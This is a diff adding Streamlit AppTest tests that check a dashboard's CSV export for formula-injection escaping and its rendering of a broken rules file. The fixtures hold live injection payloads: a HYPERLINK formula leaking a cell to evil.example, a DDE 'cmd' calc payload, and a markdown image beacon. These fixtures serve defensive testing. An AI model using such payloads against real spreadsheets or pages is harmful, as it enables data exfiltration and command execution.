@@ -1,4 +1,5 @@
 """The Trends page through Streamlit's AppTest: figures, share of voice, drill-down, export, escaping."""
+import io
 from datetime import datetime, timedelta, timezone
 
 import pandas as pd
@@ -102,3 +103,65 @@ def test_an_empty_store_says_so(tmp_path, monkeypatch, rules_file):
     at = page()
     assert not at.exception
     assert "No classified mentions for these filters in this period." in [i.value for i in at.info]
+
+
+def downloaded(at: AppTest, storages: list, label: str) -> bytes:
+    """The bytes a download button hands the browser, read back from AppTest's in-memory media store."""
+    url = next(b.proto.url for b in at.get("download_button") if b.label == label)
+    name = url.rsplit("/", 1)[-1]
+    return next(s.get_file(name).content for s in storages if name.split(".")[0] in s._files_by_id)
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(trend_db, monkeypatch):
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+
+    storages = []
+    init = MemoryMediaFileStorage.__init__
+    monkeypatch.setattr(MemoryMediaFileStorage, "__init__",
+                        lambda self, *a, **k: (init(self, *a, **k), storages.append(self))[0])
+    store = Store(trend_db)
+    now = datetime.now(timezone.utc)
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+    posts = [Mention("twitter", "f1", formula, author="+cmd|' /C calc'!A0", author_followers=5,
+                     created_at=now - timedelta(days=2)),
+             Mention("twitter", "f2", "  @SUM(1+1)", author="-2+3", created_at=now - timedelta(days=2))]
+    store.save_mentions(posts)
+    store.save_labels([Labels(m.key, "en", True, ("Aerolia",), "negative", -0.75, True, 0.9, "complaint", True, 50,
+                              model="test") for m in posts], sla=3600)
+    at = page()
+    at.toggle(key="tr_export").set_value(True).run()
+    assert not at.exception
+    data = downloaded(at, storages, "Download CSV")
+    rows = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
+    mine = rows.set_index("key").loc[["twitter:f1", "twitter:f2"]]
+    assert list(mine["text"]) == ["'" + formula, "'  @SUM(1+1)"]
+    assert list(mine["author"]) == ["'+cmd|' /C calc'!A0", "'-2+3"]
+    typed = pd.read_csv(io.BytesIO(data))
+    text_columns = typed.select_dtypes(exclude="number").columns
+    assert not rows[text_columns].map(lambda v: v[:1] in ("=", "+", "-", "@", "\t", "\r")).any().any()
+    # numbers stay numbers: a negative score is written as a number, not as quoted text
+    assert pd.api.types.is_float_dtype(typed["sentiment_score"]) and (typed["sentiment_score"] < 0).any()
+
+
+def test_a_value_quoted_from_a_broken_rules_file_is_shown_as_plain_text(trend_db, tmp_path, monkeypatch):
+    broken = tmp_path / "rules.yaml"
+    broken.write_text('brands:\n  - name: Aerolia\n    keywords: [aerolia]\n    competitors: "![x](https://evil.example/p.png)"\n')
+    monkeypatch.setenv("ECOUTE_RULES", str(broken))
+    at = page()
+    assert not at.exception
+    shown_as_markdown = [e.value for kind in (at.title, at.subheader, at.caption, at.markdown, at.info, at.warning,
+                                              at.error) for e in kind]
+    assert not [m for m in shown_as_markdown if "evil.example" in m]
+    assert any(e.value.startswith("rules.yaml is invalid") for e in at.error)
+    assert any("expected a list of strings, got '![x](https://evil.example/p.png)'" in t.value for t in at.text)
+
+
+def test_every_trends_table_has_worded_headings_and_empty_cells_for_missing_values(trend_db):
+    from tests.dashboard.conftest import assert_tables_read_as_words, table_labels
+
+    at = page()
+    at.toggle(key="tr_authors").set_value(True).run()
+    assert not at.exception
+    assert_tables_read_as_words(at)
+    drill = next(d for d in at.dataframe if "text" in d.value.columns)
+    assert "followers" in table_labels(drill) and "posted (UTC)" in table_labels(drill)
